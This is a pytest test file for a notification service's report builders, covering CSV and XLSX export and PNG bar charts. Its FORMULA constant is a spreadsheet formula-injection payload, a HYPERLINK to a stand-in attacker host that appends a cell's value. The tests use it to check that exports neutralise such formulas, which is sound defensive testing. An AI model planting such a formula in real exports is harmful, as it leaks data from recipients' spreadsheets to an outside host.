from __future__ import annotations

import csv
import io
import sys
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from PIL import Image

from notifier.errors import ConfigurationError, InvalidReport
from notifier.reports import bar_chart, csv_file, xlsx_file
from notifier.reports.chart import _round_top

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def test_a_csv_holds_its_rows_in_utf_8_that_excel_reads() -> None:
    file = csv_file("orders.csv", [('Zoë, "the" first', 3), ("京", -1.5)], columns=("name", "orders"))
    assert file.data.startswith("\ufeff".encode())
    read = list(csv.reader(io.StringIO(file.data.decode("utf-8-sig"), newline="")))
    assert read == [["name", "orders"], ['Zoë, "the" first', "3"], ["京", "-1.5"]]


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_in_a_csv_is_no_formula(text: str) -> None:
    read = list(csv.reader(io.StringIO(csv_file("x.csv", [(text,)]).data.decode("utf-8-sig"), newline="")))
    assert read[0][0].startswith("'")


def test_text_in_a_workbook_is_no_formula_and_no_link() -> None:
    file = xlsx_file("x.xlsx", [(FORMULA, "https://example.com", 3, None, True, Decimal("1.5"))], columns=("a",) * 6)
    with zipfile.ZipFile(io.BytesIO(file.data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in book.namelist() if "rels" in name and "sheet1" in name]
    assert "<f>" not in sheet


def test_a_workbook_holds_days_and_moments() -> None:
    file = xlsx_file("x.xlsx", [(date(2026, 11, 27), datetime(2026, 11, 27, 8, tzinfo=UTC))])
    with zipfile.ZipFile(io.BytesIO(file.data)) as book:
        assert "<v>46353</v>" in book.read("xl/worksheets/sheet1.xml").decode()


def test_a_chart_is_an_image_of_few_octets_that_a_mail_can_show() -> None:
    chart = bar_chart(
        "days.png", [f"11-{day}" for day in range(1, 29)], {"sent": [*range(27), 1000], "failed": [0] * 28}
    )
    image = Image.open(io.BytesIO(chart.data))
    assert (image.format, chart.inline) == ("PNG", True)
    assert len(chart.data) < 20_000
    assert chart.url.startswith("cid:")


def test_two_bars_stand_in_their_proportion() -> None:
    image = Image.open(io.BytesIO(bar_chart("x.png", ["a", "b"], {"n": [10, 5]}).data)).convert("RGB")
    blue = (47, 111, 222)
    columns = {x: sum(image.getpixel((x, y)) == blue for y in range(image.height)) for x in (350, 850)}
    assert columns[350] == pytest.approx(2 * columns[850], abs=3)


def test_a_chart_of_nothing_is_drawn_as_well() -> None:
    assert bar_chart("x.png", ["a"], {"n": [0]}).data


@pytest.mark.parametrize(("most", "top"), [(0, 1), (1, 1), (3, 5), (10, 10), (11, 20), (999, 1000), (1001, 2000)])
def test_the_scale_ends_at_a_round_number(most: float, top: float) -> None:
    assert _round_top(most) == top


@pytest.mark.parametrize(
    ("labels", "series"),
    [([], {"n": []}), (["a"], {}), (["a"], {"n": [1, 2]}), (["a"], {"n": [-1]}), (["a"], {"n": [float("nan")]})],
)
def test_numbers_that_cannot_be_shown_are_refused(labels: list[str], series: dict[str, list[float]]) -> None:
    with pytest.raises(InvalidReport):
        bar_chart("x.png", labels, series)


@pytest.mark.parametrize(
    ("module", "make"),
    [("xlsxwriter", lambda: xlsx_file("x.xlsx", [(1,)])), ("PIL", lambda: bar_chart("x.png", ["a"], {"n": [1]}))],
)
def test_without_its_library_the_extra_is_named(
    monkeypatch: pytest.MonkeyPatch, module: str, make: Callable[[], object]
) -> None:
    monkeypatch.setitem(sys.modules, module, None)  # as where it is not installed
    with pytest.raises(ConfigurationError, match=r"pip install 'notifier-worker\[reports\]'"):
        make()


def test_a_csv_needs_no_library(monkeypatch: pytest.MonkeyPatch) -> None:
    for module in ("xlsxwriter", "PIL"):
        monkeypatch.setitem(sys.modules, module, None)
    assert csv_file("x.csv", [(1,)]).data
